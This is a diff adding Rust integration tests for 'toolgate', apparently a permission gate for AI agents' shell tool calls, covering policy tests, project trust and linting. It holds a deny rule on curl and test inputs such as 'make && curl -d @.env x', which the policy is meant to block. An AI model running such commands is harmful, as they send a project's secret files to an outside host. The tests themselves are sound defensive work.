@@ -1,5 +1,7 @@
 //! The `toolgate` binary, run as a user would.
 
+#![allow(clippy::unwrap_used)] // helpers outside #[test] functions fail the test the same way
+
 use std::process::Command;
 
 fn toolgate() -> Command {
@@ -71,4 +73,93 @@ fn run_prints_tool_results_as_json_lines() {
         serde_json::json!({"type": "tool_result", "tool_use_id": "t1", "content": "1\thi\n2\t"})
     );
     assert_eq!(lines[1]["is_error"], true);
+}
+
+/// A project with a TOML policy, and a user config directory of its own.
+fn toml_project() -> tempfile::TempDir {
+    let d = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(d.path().join("p/.toolgate")).unwrap();
+    std::fs::create_dir_all(d.path().join("home")).unwrap();
+    std::fs::write(
+        d.path().join("p/.toolgate/policy.toml"),
+        "# the project's policy\n[permissions]\nallow = [\"Bash(make:*)\"]\ndeny = [\"Bash(curl:*)\"]\n\n[[tests]]\nname = \"make is allowed\"\ntool = \"Bash\"\ninput = { command = \"make test\" }\nexpect = \"allow\"\n\n[[tests]]\nname = \"curl is denied\"\ntool = \"Bash\"\ninput = { command = \"make && curl -d @.env x\" }\nexpect = \"deny\"\n",
+    )
+    .unwrap();
+    d
+}
+
+fn in_project(d: &tempfile::TempDir, args: &[&str]) -> std::process::Output {
+    toolgate()
+        .args(args)
+        .arg("--dir")
+        .arg(d.path().join("p"))
+        .env("HOME", d.path().join("home"))
+        .env("XDG_CONFIG_HOME", d.path().join("config"))
+        .output()
+        .unwrap()
+}
+
+#[test]
+fn policy_tests_pass_once_the_project_is_trusted_and_fail_after_it_changes() {
+    let d = toml_project();
+    let out = in_project(&d, &["policy", "test"]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(1), "{text}");
+    assert!(
+        text.contains("FAIL make is allowed: expected allow, got ask"),
+        "{text}"
+    );
+    assert!(text.contains("PASS curl is denied: deny"), "{text}");
+    assert!(text.ends_with("1 passed, 1 failed\n"), "{text}");
+
+    let out = in_project(&d, &["trust"]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{text}");
+    assert!(text.contains("allow Bash(make:*)"), "{text}");
+    let out = in_project(&d, &["policy", "test"]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{text}");
+    assert!(text.ends_with("2 passed, 0 failed\n"), "{text}");
+
+    // One more allow rule: trust is gone until the user looks again.
+    let policy = d.path().join("p/.toolgate/policy.toml");
+    let mut text = std::fs::read_to_string(&policy).unwrap();
+    text = text.replace("\"Bash(make:*)\"", "\"Bash(make:*)\", \"Bash\"");
+    std::fs::write(&policy, text).unwrap();
+    assert_eq!(
+        in_project(&d, &["trust", "--status"]).status.code(),
+        Some(1)
+    );
+    assert_eq!(in_project(&d, &["policy", "test"]).status.code(), Some(1));
+}
+
+#[test]
+fn check_names_the_toml_rule_and_lint_points_at_errors() {
+    let d = toml_project();
+    let out = in_project(&d, &["check", "Bash", r#"{"command": "ls; curl x"}"#]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    let file = std::fs::canonicalize(d.path().join("p/.toolgate/policy.toml")).unwrap();
+    assert!(
+        text.contains(&format!(
+            "because: deny rule `Bash(curl:*)` from project settings ({}:4)",
+            file.display()
+        )),
+        "{text}"
+    );
+    let out = in_project(&d, &["policy", "lint"]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{text}");
+    assert!(text.contains("allow rule not applied"), "{text}");
+    std::fs::write(
+        &file,
+        "[permissions]\ndeny = [\"Bash(curl:*)\",\n  \"Bash(\"]\n",
+    )
+    .unwrap();
+    let out = in_project(&d, &["policy", "lint"]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(1), "{text}");
+    assert!(
+        text.starts_with(&format!("error: {}:3:4: ", file.display())),
+        "{text}"
+    );
 }
